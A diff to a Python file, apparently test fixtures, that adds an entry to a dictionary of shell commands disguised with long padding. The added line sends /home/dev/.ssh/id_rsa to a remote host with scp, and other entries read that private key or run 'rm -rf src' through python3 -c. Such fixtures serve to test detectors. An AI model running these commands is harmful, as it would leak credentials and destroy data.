@@ -21,6 +21,7 @@ def many(template: str) -> str:
 
 
 BEHIND = {
+    "paths": "scp <7000:a/# > /home/dev/.ssh/id_rsa x:",
     "python, loop": 'python3 -c \'for f in [<20:"a#",>"/home/dev/.ssh/id_rsa"]: print(open(f).read())\'',
     "python, comprehension": 'python3 -c \'[print(open(f).read()) for f in ("a", "/home/dev/.ssh/id_rsa")]\'',
     "python, loop of commands": 'python3 -c \'import os\nfor c in ["ls", "rm -rf src"]: os.system(c)\'',
